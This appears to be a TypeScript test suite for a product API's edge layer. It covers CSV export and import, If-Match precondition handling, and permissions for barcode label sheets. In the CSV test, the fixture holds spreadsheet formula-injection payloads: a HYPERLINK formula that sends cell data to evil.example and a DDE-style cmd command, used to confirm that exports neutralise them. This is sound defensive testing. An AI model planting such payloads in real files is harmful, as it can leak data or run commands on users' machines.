/**
 * Issue 12 through the edge (workerd in front of core): formula cells in CSV, If-Match answers
 * as RFC 9110 has them, and label sheets for writers only, drawn off core's request loop.
 */
import { beforeAll, describe, expect, test } from 'bun:test';
import { readFileSync } from 'node:fs';
import { Resvg } from '@resvg/resvg-js';
import { parse } from 'csv-parse/sync';
import { prepareZXingModule, readBarcodes } from 'zxing-wasm/reader';
import { type Actor, signedIn } from '../../test/harness/auth.ts';
import { type TestEdge, testEdge } from '../../test/harness/edge.ts';
import { expectProblem, requestsAs } from '../../test/harness/http.ts';

let edge: TestEdge;
let manager: Actor;
let clerk: Actor;
let partner: Actor;
const run = crypto.randomUUID().slice(0, 6).toUpperCase();
const sku = (name: string) => `H${run}-${name}`;

const { send, json } = requestsAs(() => edge.url);

async function createProduct(body: Record<string, unknown>) {
  const res = await json(manager, 'POST', '/api/products', body);
  expect(res.status, await res.clone().text()).toBe(201);
  return (await res.json()) as { sku: string; version: number };
}

beforeAll(async () => {
  edge = await testEdge();
  const target = { url: edge.url, db: edge.database.db };
  [manager, clerk, partner] = await Promise.all([
    signedIn(target, { roles: ['manager'] }),
    signedIn(target, { roles: ['clerk'] }),
    signedIn(target, { roles: ['partner'] }),
  ]);
  const wasm = readFileSync(Bun.resolveSync('zxing-wasm/reader/zxing_reader.wasm', import.meta.dir));
  await prepareZXingModule({
    overrides: { wasmBinary: wasm.buffer.slice(wasm.byteOffset, wasm.byteOffset + wasm.byteLength) },
    fireImmediately: true,
  });
}, 120_000);

describe('CSV export neutralises formulas, and import brings them back', () => {
  const hostile = {
    name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    description: '\t+cmd|" /C calc"!A0',
    category: '@SUM(1+1)',
  };

  test('a formula-named product exports as text and imports back under its own name', async () => {
    await createProduct({ sku: sku('FORMULA'), ...hostile, price: { amount: 150, currency: 'EUR' } });
    await createProduct({ sku: sku('QUOTED'), name: "'=already quoted", category: '-5' });

    const exported = await send(manager, '/api/products/export');
    expect(exported.status).toBe(200);
    const text = await exported.text();
    const records = parse(text, { columns: true, relax_quotes: true }) as Record<string, string>[];
    const formula = records.find((r) => r.sku === sku('FORMULA'))!;
    expect(formula).toMatchObject({
      name: `'${hostile.name}`,
      description: `'${hostile.description}`,
      category: `'${hostile.category}`,
      price: '1.50',
    });
    expect(records.find((r) => r.sku === sku('QUOTED'))).toMatchObject({
      name: "''=already quoted",
      category: "'-5",
    });
    // No cell of the whole file starts a formula.
    for (const record of records)
      for (const [column, cell] of Object.entries(record))
        expect(`${column}:${cell}`).not.toMatch(/^\w+:[=+\-@\t\r]/);

    // Renamed in between, so the import has something to put back.
    const current = (await (await send(manager, `/api/products/${sku('FORMULA')}`)).json()) as {
      version: number;
    };
    await json(
      manager,
      'PATCH',
      `/api/products/${sku('FORMULA')}`,
      { name: 'renamed' },
      { 'if-match': `"${current.version}"` },
    );
    const mine = text
      .split('\r\n')
      .filter((line, i) => i === 0 || line.startsWith(sku('')))
      .join('\r\n');
    const imported = await send(manager, '/api/products/import', {
      method: 'POST',
      headers: { 'content-type': 'text/csv' },
      body: mine,
    });
    expect(imported.status, await imported.clone().text()).toBe(200);
    expect(await imported.json()).toMatchObject({ failedCount: 0, updated: 1, unchanged: 1 });
    const back = (await (await send(manager, `/api/products/${sku('FORMULA')}`)).json()) as Record<
      string,
      unknown
    >;
    expect(back).toMatchObject({ ...hostile, price: { amount: 150, currency: 'EUR' } });
    const quoted = (await (await send(manager, `/api/products/${sku('QUOTED')}`)).json()) as Record<
      string,
      unknown
    >;
    expect(quoted).toMatchObject({ name: "'=already quoted", category: '-5' });
  });
});

describe('If-Match: a tag that does not match is 412, only a broken header 422', () => {
  test('PATCH and DELETE through the edge', async () => {
    const created = await createProduct({ sku: sku('ETAG'), name: 'Tagged' });
    const path = `/api/products/${sku('ETAG')}`;
    for (const stale of ['"stale"', 'W/"1"', '"99", "x"', '""'])
      await expectProblem(await json(manager, 'PATCH', path, { name: 'lost' }, { 'if-match': stale }), 412);
    await expectProblem(
      await send(manager, path, { method: 'DELETE', headers: { 'if-match': '"stale"' } }),
      412,
    );
    for (const broken of ['stale', '"unclosed', '*, "1"']) {
      const problem = await expectProblem(
        await json(manager, 'PATCH', path, { name: 'x' }, { 'if-match': broken }),
        422,
      );
      expect(problem.errors?.[0]?.path).toBe('If-Match');
    }
    const listed = await json(
      manager,
      'PATCH',
      path,
      { name: 'Listed' },
      { 'if-match': `"stale", "${created.version}"` },
    );
    expect(listed.status).toBe(200);
    expect(await listed.json()).toMatchObject({ name: 'Listed', version: created.version + 1 });
    expect((await json(manager, 'PATCH', path, { name: 'Any' }, { 'if-match': '*' })).status).toBe(200);
  });
});

describe('label sheets: writers only, real SVG', () => {
  test('a clerk or a partner is refused a sheet (403); single labels stay open to readers', async () => {
    await createProduct({ sku: sku('SHEET1'), name: 'Sheet one' });
    for (const reader of [clerk, partner]) {
      await expectProblem(await json(reader, 'POST', '/api/products/labels', { skus: [sku('SHEET1')] }), 403);
      const label = await send(reader, `/api/products/${sku('SHEET1')}/label?format=png`);
      expect(label.status).toBe(200);
      expect([...new Uint8Array(await label.arrayBuffer()).slice(0, 4)]).toEqual([0x89, 0x50, 0x4e, 0x47]);
    }
  });

  test('a manager gets a sheet whose barcodes scan', async () => {
    const skus = [sku('SHEET1'), sku('SHEET2'), sku('SHEET3')];
    for (const s of skus.slice(1)) await createProduct({ sku: s, name: `Sheet ${s}` });
    const res = await json(manager, 'POST', '/api/products/labels', { skus, symbology: 'qrcode' });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toStartWith('image/svg+xml');
    const font = Bun.resolveSync('bwip-js/node', import.meta.dir).replace(
      /dist\/[^/]+$/,
      'fonts/Inconsolata.otf',
    );
    const png = new Resvg(await res.text(), {
      fitTo: { mode: 'width', value: 2480 },
      background: '#FFFFFF',
      font: { loadSystemFonts: false, fontFiles: [font], defaultFontFamily: 'Inconsolata' },
    })
      .render()
      .asPng();
    const scanned = await readBarcodes(png, { formats: ['QRCode'], tryHarder: true });
    expect(
      scanned
        .filter((r) => r.isValid)
        .map((r) => r.text)
        .toSorted(),
    ).toEqual(skus.toSorted());
  });
});
